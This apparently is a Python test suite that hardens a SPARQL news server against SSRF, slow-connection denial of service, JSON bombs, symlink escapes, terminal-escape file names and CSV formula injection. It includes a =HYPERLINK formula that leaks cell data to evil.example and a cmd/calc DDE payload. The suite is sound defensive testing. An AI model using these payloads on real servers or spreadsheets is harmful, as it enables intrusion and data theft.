"""Hardening: each test is named after a weakness of the security review, and would fail on it.

Every server here is a real `geonews serve` on loopback; "other clients" connect from other
loopback addresses (127.0.0.2, ...), which is how the per-client limits tell clients apart.
"""

from __future__ import annotations

import http.client as httpclient
import json
import os
import signal
import socket
import subprocess
import sys
import threading
import time
import urllib.parse
from pathlib import Path

import pyoxigraph as ox
import pytest
from click.testing import CliRunner

from geonews.cli import main
from geonews.web.sparql.pool import Job, WorkerPool

GEONEWS = [sys.executable, "-m", "geonews.cli"]
GOOD = "Russia and Turkey agree on Idlib\n\nRussia and Turkey signed the Moscow Accord on March 5.\n"


def free_port() -> int:
    with socket.socket() as s:
        s.bind(("127.0.0.1", 0))
        return s.getsockname()[1]


def request(url: str, method: str = "GET", body: bytes | None = None, headers: dict | None = None,
            source: str = "127.0.0.1", timeout: float = 30):
    """One HTTP request from loopback address `source`: (status, headers, body)."""
    parts = urllib.parse.urlsplit(url)
    conn = httpclient.HTTPConnection(parts.hostname, parts.port, timeout=timeout,
                                     source_address=(source, 0))
    try:
        path = parts.path + (f"?{parts.query}" if parts.query else "")
        conn.request(method, path, body=body, headers=headers or {})
        resp = conn.getresponse()
        return resp.status, resp.headers, resp.read()
    finally:
        conn.close()


ANY = "application/sparql-results+json, text/turtle;q=0.9"


def sparql_get(base: str, query: str, source: str = "127.0.0.1", accept: str = ANY,
               headers: dict | None = None, **params):
    qs = urllib.parse.urlencode({"query": query, **params})
    return request(f"{base}/sparql?{qs}", headers={"Accept": accept, **(headers or {})}, source=source)


def sparql_post(base: str, query: str, source: str = "127.0.0.1"):
    return request(f"{base}/sparql", "POST", query.encode("utf-8"),
                   {"Content-Type": "application/sparql-query", "Accept": ANY}, source=source)


@pytest.fixture(scope="module")
def canary():
    """A loopback listener that records every connection made to it (it must record none)."""
    srv = socket.socket()
    srv.bind(("127.0.0.1", 0))
    srv.listen(64)
    srv.settimeout(0.2)
    hits: list[bytes] = []
    stop = threading.Event()

    def accept():
        while not stop.is_set():
            try:
                conn, _ = srv.accept()
            except OSError:
                continue
            conn.settimeout(1)
            try:
                hits.append(conn.recv(4096) or b"(connected)")
            except OSError:
                hits.append(b"(connected)")
            conn.close()

    thread = threading.Thread(target=accept, daemon=True)
    thread.start()
    yield f"http://127.0.0.1:{srv.getsockname()[1]}", hits
    stop.set()
    thread.join()
    srv.close()


# -- 1. outbound requests (SSRF) -----------------------------------------------------------------
SERVICE_PROBES = [
    "SELECT * WHERE { SERVICE <{c}/sparql> { ?s ?p ?o } }",
    "select * where { service <{c}/sparql> { ?s ?p ?o } }",
    "SELECT * WHERE { SeRvIcE <{c}/sparql> { ?s ?p ?o } }",
    "SELECT * WHERE { SERVICE SILENT <{c}/sparql> { ?s ?p ?o } }",
    "SELECT * WHERE { SERVICESILENT<{c}/sparql>{ ?s ?p ?o } }",
    "SELECT * WHERE { SERVICEsilent <{c}/sparql> { ?s ?p ?o } }",
    "SELECT * WHERE { SERVICE<{c}/sparql>{?s ?p ?o} }",
    "SELECT * WHERE { SERVICE#comment\n<{c}/sparql> { ?s ?p ?o } }",
    "PREFIX : <{c}/> SELECT * WHERE { SERVICE:sparql { ?s ?p ?o } }",
    "PREFIX ex: <{c}/> SELECT * WHERE { SERVICEex:sparql { ?s ?p ?o } }",
    "PREFIX ex: <{c}/> SELECT * WHERE { SERVICESILENTex:sparql { ?s ?p ?o } }",
    "SELECT * WHERE { BIND(<{c}/sparql> AS ?e) SERVICE ?e { ?s ?p ?o } }",
    "SELECT * WHERE { VALUES ?e { <{c}/sparql> } SERVICE ?e { ?s ?p ?o } }",
    "BASE <{c}/> SELECT * WHERE { SERVICE <sparql> { ?s ?p ?o } }",
    "SELECT * WHERE { OPTIONAL { SERVICE <{c}/sparql> { ?s ?p ?o } } }",
    "SELECT * WHERE { FILTER EXISTS { SERVICE <{c}/sparql> { ?s ?p ?o } } }",
    "SELECT * WHERE { { SELECT * WHERE { SERVICE <{c}/sparql> { ?s ?p ?o } } } }",
    "ASK { SERVICE <{c}/sparql> { ?s ?p ?o } }",
    "CONSTRUCT { ?s ?p ?o } WHERE { SERVICE <{c}/sparql> { ?s ?p ?o } }",
    "DESCRIBE ?s WHERE { SERVICE <{c}/sparql> { ?s ?p ?o } }",
]
DATASET_PROBES = [
    "SELECT * FROM <{c}/g> WHERE { ?s ?p ?o }",
    "SELECT * FROM NAMED <{c}/g> WHERE { GRAPH ?g { ?s ?p ?o } }",
    "SELECT * FROMNAMED<{c}/g> WHERE { ?s ?p ?o }",
    "SELECT * FROM<{c}/g> WHERE { ?s ?p ?o }",
    "DESCRIBE <{c}/thing>",
    "ASK { <{c}/thing> ?p ?o }",
    "LOAD <{c}/data.ttl>",
    "LOAD SILENT <{c}/data.ttl> INTO GRAPH <urn:g>",
]


def _assert_nothing_fetched(hits: list[bytes], before: int) -> None:
    time.sleep(0.05)
    assert hits[before:] == [], f"the endpoint contacted the canary: {hits[before:]}"


@pytest.mark.slow
@pytest.mark.parametrize("template", SERVICE_PROBES + DATASET_PROBES)
@pytest.mark.parametrize("method", ["GET", "POST"])
def test_no_query_spelling_makes_an_outbound_request(live_server, canary, template, method):
    target, hits = canary
    query = template.replace("{c}", target)
    before = len(hits)
    send = sparql_get if method == "GET" else sparql_post
    code, _, body = send(live_server, query)
    _assert_nothing_fetched(hits, before)
    if template in SERVICE_PROBES:
        assert code == 400 and b"outbound" in body, body
    else:
        assert code == 400 or 200 <= code < 300, (code, body)


@pytest.mark.slow
def test_relative_service_iri_is_not_steered_by_the_host_header(live_server, canary):
    target, hits = canary
    before = len(hits)
    host = urllib.parse.urlsplit(target).netloc
    code, _, body = sparql_get(live_server, "SELECT * WHERE { SERVICE <x> { ?s ?p ?o } }",
                               headers={"Host": host})
    _assert_nothing_fetched(hits, before)
    assert code == 400
    code, _, body = sparql_get(live_server, 'SELECT (IRI("") AS ?x) WHERE {}',
                               headers={"Host": host})
    assert code == 200
    value = json.loads(body)["results"]["bindings"][0]["x"]["value"]
    assert value.startswith(live_server) and host not in value


@pytest.mark.slow
@pytest.mark.parametrize("param", ["default-graph-uri", "named-graph-uri"])
def test_protocol_graph_parameters_fetch_nothing(live_server, canary, param):
    target, hits = canary
    before = len(hits)
    code, _, body = sparql_get(live_server, "ASK { ?s ?p ?o }", **{param: f"{target}/g"})
    _assert_nothing_fetched(hits, before)
    assert code == 200 and json.loads(body)["boolean"] is False


@pytest.mark.slow
def test_update_forms_with_load_fetch_nothing(live_server, canary):
    target, hits = canary
    before = len(hits)
    load = f"LOAD <{target}/data.ttl>"
    answers = [
        request(f"{live_server}/sparql?{urllib.parse.urlencode({'update': load})}")[0],
        request(f"{live_server}/sparql", "POST", urllib.parse.urlencode({"update": load}).encode(),
                {"Content-Type": "application/x-www-form-urlencoded"})[0],
        request(f"{live_server}/sparql", "POST", load.encode(),
                {"Content-Type": "application/sparql-update"})[0],
    ]
    _assert_nothing_fetched(hits, before)
    assert answers == [400, 400, 415]


def test_the_worker_sandbox_alone_stops_service(seed_store, canary):
    """Even a query that skips the text check cannot call out: the worker has no network."""
    target, hits = canary
    pool = WorkerPool(1)
    try:
        pool.start()
        assert pool.sandbox == "on"
        before = len(hits)
        job = Job(query=f"SELECT * WHERE {{ SERVICE <{target}/sparql> {{ ?s ?p ?o }} }}",
                  store=str(seed_store[0]), stamp=0.0, results_format="json", graph_format=None,
                  max_rows=10)
        outcome = pool.run(job, 10)
        _assert_nothing_fetched(hits, before)
        assert outcome.status == "refused" and "network" in outcome.message
        silent = Job(query=f"SELECT * WHERE {{ SERVICE SILENT <{target}/sparql> {{ ?s ?p ?o }} }}",
                     store=str(seed_store[0]), stamp=0.0, results_format="json", graph_format=None,
                     max_rows=10)
        outcome = pool.run(silent, 10)
        _assert_nothing_fetched(hits, before)
        assert outcome.status == "ok"  # SILENT: an empty answer, and nothing was fetched
    finally:
        pool.close()


# -- 3. idle and slow connections --------------------------------------------------------------
@pytest.fixture(scope="module")
def guarded_server(seed_store, tmp_path_factory, server_process):
    """`geonews serve` with a 3 s request deadline and 16 connections per client."""
    port = free_port()
    base = f"http://127.0.0.1:{port}"
    log = tmp_path_factory.mktemp("guarded-server") / "serve.log"
    env = {"GEONEWS_BASE": base, "GEONEWS_STORE": str(seed_store[0]),
           "GEONEWS_REQUEST_TIMEOUT": "3", "GEONEWS_MAX_CONNECTIONS_PER_CLIENT": "16"}
    cmd = [*GEONEWS, "serve", "--port", str(port)]
    with server_process(cmd, f"{base}/sparql?query=ASK%7B%7D", log, env):
        yield base, port


def _half_open(port: int, source: str) -> socket.socket:
    """A connection that sends a request line and one header, and never finishes."""
    s = socket.create_connection(("127.0.0.1", port), timeout=5, source_address=(source, 0))
    s.sendall(b"GET /sparql?query=ASK%7B%7D HTTP/1.1\r\nHost: x\r\n")
    return s


def _refused_or_closed(s: socket.socket, wait: float) -> bytes:
    s.settimeout(wait)
    try:
        return s.recv(200) or b"(closed)"
    except TimeoutError:
        return b""
    except OSError:
        return b"(closed)"


@pytest.mark.slow
def test_idle_half_open_connections_leave_other_clients_answered(guarded_server):
    base, port = guarded_server
    attackers = []
    try:
        for _ in range(120):
            attackers.append(_half_open(port, "127.0.0.2"))
        start = time.monotonic()
        code, _, _ = sparql_get(base, "ASK {}", source="127.0.0.1")
        assert code == 200 and time.monotonic() - start < 1
        answers = [_refused_or_closed(s, 0.2) for s in attackers]
        refused = [a for a in answers if a.startswith(b"HTTP/1.1 503")]
        assert len(refused) >= 120 - 16, answers[:20]
        waiting = [s for s, a in zip(attackers, answers, strict=True) if not a]
        assert waiting, "the connections within the per-client cap should have been accepted"
        cut = [_refused_or_closed(s, 6) for s in waiting]  # the 3 s request deadline
        assert all(c for c in cut), "a half-sent request outlived the request deadline"
    finally:
        for s in attackers:
            s.close()


@pytest.mark.slow
def test_a_slowly_trickled_request_is_cut_at_the_deadline(guarded_server):
    _, port = guarded_server
    s = socket.create_connection(("127.0.0.1", port), timeout=10, source_address=("127.0.0.3", 0))
    try:
        s.sendall(b"GET /sparql?query=ASK%7B%7D HTTP/1.1\r\n")
        start = time.monotonic()
        closed = False
        while time.monotonic() - start < 8:
            try:
                s.sendall(b"X-Slow: 1\r\n")  # a header every half second keeps it "active"
            except OSError:
                closed = True
                break
            s.settimeout(0.5)
            try:
                if s.recv(100) == b"":
                    closed = True
                    break
            except TimeoutError:
                pass
        assert closed and time.monotonic() - start < 6
    finally:
        s.close()


# -- 4. heavy pages ----------------------------------------------------------------------------
@pytest.fixture(scope="module")
def big_server(seed_store, tmp_path_factory, server_process):
    """`geonews serve` over the seed store's articles copied to ~150,000 quads."""
    import importlib.util

    spec = importlib.util.spec_from_file_location(
        "scale_store", Path(__file__).parent.parent / "benchmarks" / "scale_store.py")
    scale_store = importlib.util.module_from_spec(spec)
    spec.loader.exec_module(scale_store)
    root = tmp_path_factory.mktemp("big-store")
    scale_store.replicate(seed_store[0], root / "store", 150_000)
    port = free_port()
    base = f"http://127.0.0.1:{port}"
    env = {"GEONEWS_BASE": "http://127.0.0.1:5000", "GEONEWS_STORE": str(root / "store")}
    cmd = [*GEONEWS, "serve", "--port", str(port)]
    with server_process(cmd, f"{base}/sparql?query=ASK%7B%7D", root / "serve.log", env):
        yield base


HEAVY_PAGES = ["/dumps/", "/.well-known/void", "/dumps/all.nq", "/doc/state/turkey",
               "/doc/state/turkey.ttl", "/", "/search?q=a", "/dumps/all.trig.gz"]


@pytest.mark.slow
def test_eight_heavy_pages_leave_an_ask_answered_within_a_second(big_server):
    results: dict[str, tuple[int, float]] = {}

    def fetch(path: str) -> None:
        start = time.monotonic()
        code = request(big_server + path, source="127.0.0.2", timeout=60)[0]
        results[path] = (code, time.monotonic() - start)

    threads = [threading.Thread(target=fetch, args=(p,)) for p in HEAVY_PAGES]
    for t in threads:
        t.start()
    probes = []
    while any(t.is_alive() for t in threads) or not probes:
        start = time.monotonic()
        code = sparql_get(big_server, "ASK {}", source="127.0.0.1")[0]
        probes.append((code, time.monotonic() - start))
        time.sleep(0.05)
    for t in threads:
        t.join()
    assert all(code == 200 and seconds < 1 for code, seconds in probes), probes
    # each page answered, or said plainly that it is being prepared; none held a thread long
    assert all(code in (200, 503) and seconds < 10 for code, seconds in results.values()), results


# -- 5., 6., 9. hostile input to ingest ----------------------------------------------------------
def _titles(store: Path) -> list[str]:
    s = ox.Store.read_only(str(store))
    return sorted(r["t"].value for r in s.query(
        "SELECT ?t WHERE { GRAPH ?g { ?a a <https://w3id.org/geonews/ontology#Article> ; "
        "<http://purl.org/dc/terms/title> ?t } }"))


@pytest.mark.slow
def test_one_hostile_file_does_not_lose_the_batch(tmp_path):
    folder = tmp_path / "in"
    folder.mkdir()
    (folder / "good.txt").write_text(GOOD, encoding="utf-8")
    (folder / "nested.json").write_text("[" * 100_000 + "]" * 100_000, encoding="utf-8")
    (folder / "bigint.json").write_text('{"id": ' + "9" * 5000 + ', "text": "Turkey."}', encoding="utf-8")
    (folder / "deep.jsonl").write_text('{"a": ' * 50_000 + "1" + "}" * 50_000 + "\n", encoding="utf-8")
    store = tmp_path / "store"
    result = CliRunner().invoke(main, ["ingest", "--store", str(store), str(folder)])
    assert result.exit_code == 2, result.output
    for name in ("nested.json", "bigint.json", "deep.jsonl"):
        assert f"{name}" in result.stderr and "invalid JSON" in result.stderr
    assert "Traceback" not in result.output + result.stderr
    assert _titles(store) == ["Russia and Turkey agree on Idlib"]


@pytest.mark.slow
def test_a_folder_walk_does_not_follow_links_out_of_the_folder(tmp_path):
    outside = tmp_path / "outside"
    outside.mkdir()
    secret = outside / "secret.txt"
    secret.write_text("root:x:0:0:root:/root:/bin/bash\n\nsecret text of another folder\n")
    folder = tmp_path / "in"
    (folder / "sub").mkdir(parents=True)
    (folder / "good.txt").write_text(GOOD, encoding="utf-8")
    (folder / "passwd.txt").symlink_to(secret)
    (folder / "linked-dir").symlink_to(outside, target_is_directory=True)
    (folder / "sub" / "inside.txt").symlink_to(folder / "good.txt")  # inside: fine
    store = tmp_path / "store"
    result = CliRunner().invoke(main, ["ingest", "--store", str(store), str(folder)])
    assert result.exit_code == 0, result.output
    assert "passwd.txt: left out: a symbolic link to a file outside the folder" in result.stderr
    assert "linked-dir: left out: a symbolic link to a folder" in result.stderr
    assert all("root:x" not in t for t in _titles(store))
    # a path named explicitly is read as given, link or not
    result = CliRunner().invoke(main, ["ingest", "--store", str(store), str(folder / "passwd.txt")])
    assert result.exit_code == 0 and "root:x:0:0:root:/root:/bin/bash" in _titles(store)


@pytest.mark.slow
def test_control_characters_in_file_names_are_escaped(tmp_path):
    folder = tmp_path / "in"
    folder.mkdir()
    (folder / "evil\x1b[2J\rpublished 999 facts.txt").write_text("")
    result = CliRunner().invoke(main, ["ingest", "--store", str(tmp_path / "store"), str(folder)])
    assert result.exit_code == 2
    assert "\x1b" not in result.stderr and "\r" not in result.stderr
    assert "evil\\x1b[2J\\x0dpublished 999 facts.txt: skipped: empty file" in result.stderr


# -- 7. spreadsheet formulas --------------------------------------------------------------------
FORMULAS = ('SELECT ?x ?n WHERE { VALUES (?x ?n) { '
            '("=HYPERLINK(\\"http://evil.example/?x=\\"&A1,\\"Click\\")" -3) '
            '("+cmd|\' /C calc\'!A0" 1) ("@SUM(A1:A2)" 2) ("-2+3" 3) ("\\tx" 4) ("safe" 5) } }')


@pytest.mark.slow
def test_csv_cells_that_spreadsheets_would_run_are_neutralised(live_server):
    import csv
    import io

    code, headers, body = sparql_get(live_server, FORMULAS, accept="text/csv")
    assert code == 200
    rows = list(csv.reader(io.StringIO(body.decode("utf-8"), newline="")))
    assert rows[0] == ["x", "n"]
    cells = [r[0] for r in rows[1:]]
    assert cells[:5] == ["'=HYPERLINK(\"http://evil.example/?x=\"&A1,\"Click\")", "'+cmd|' /C calc'!A0",
                         "'@SUM(A1:A2)", "'-2+3", "'\tx"]
    assert cells[5] == "safe" and rows[1][1] == "-3"  # a number is not a formula


@pytest.mark.slow
def test_tsv_cells_that_spreadsheets_would_run_are_neutralised(live_server):
    code, _, body = sparql_get(live_server, FORMULAS, accept="text/tab-separated-values")
    assert code == 200
    lines = body.decode("utf-8").rstrip("\n").split("\n")
    cells = [line.split("\t")[0] for line in lines[1:]]
    assert all(c.startswith("\"'") for c in cells[:4]), cells
    assert cells[4] == '"\\tx"'  # TSV itself escapes a tab inside a literal: no live tab
    assert cells[5] == '"safe"' and lines[1].split("\t")[1] == "-3"


# -- 8. conditional requests and the Host header -------------------------------------------------
@pytest.mark.slow
def test_if_none_match_star_on_a_missing_entity_is_404(live_server):
    code, _, _ = request(f"{live_server}/doc/state/no-such-state", headers={"If-None-Match": "*"})
    assert code == 404
    code, _, body = request(f"{live_server}/doc/state/turkey", headers={"If-None-Match": "*"})
    assert code == 304 and body == b""


@pytest.mark.slow
def test_the_host_header_is_never_reflected(live_server):
    code, headers, body = request(f"{live_server}/sparql", headers={"Accept": "text/turtle",
                                                                    "Host": "evil.example"})
    assert code == 200 and b"evil.example" not in body
    assert f"<{live_server}/sparql>".encode() in body


@pytest.mark.slow
def test_a_failed_precondition_does_not_send_the_dump(live_server):
    code, _, body = request(f"{live_server}/dumps/all.nq", headers={"If-Match": '"not-this-one"'})
    assert code == 412 and len(body) < 200 and b"<http" not in body


# -- 9. the dump cache is removed on SIGTERM ---------------------------------------------------
@pytest.mark.slow
def test_no_temporary_dump_files_remain_after_sigterm(seed_store, tmp_path):
    tmp = tmp_path / "tmp"
    tmp.mkdir()
    orphan = tmp / "geonews-dumps-999999999-old"  # left by a server killed with -9
    orphan.mkdir()
    port = free_port()
    env = {**os.environ, "TMPDIR": str(tmp), "GEONEWS_STORE": str(seed_store[0]),
           "GEONEWS_BASE": f"http://127.0.0.1:{port}"}
    proc = subprocess.Popen([*GEONEWS, "serve", "--port", str(port)], env=env,
                            stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
    try:
        deadline = time.monotonic() + 30
        while True:
            try:
                code, _, body = request(f"http://127.0.0.1:{port}/dumps/all.nq.gz")
                break
            except OSError:
                assert time.monotonic() < deadline and proc.poll() is None
                time.sleep(0.2)
        assert code == 200 and body
        assert list(tmp.glob("geonews-dumps-*/*all.nq.gz")), "the dump was not cached"
        assert not orphan.exists()
        proc.send_signal(signal.SIGTERM)
        assert proc.wait(timeout=20) == 0
    finally:
        if proc.poll() is None:
            proc.kill()
            proc.wait()
    assert list(tmp.glob("geonews-dumps-*")) == []
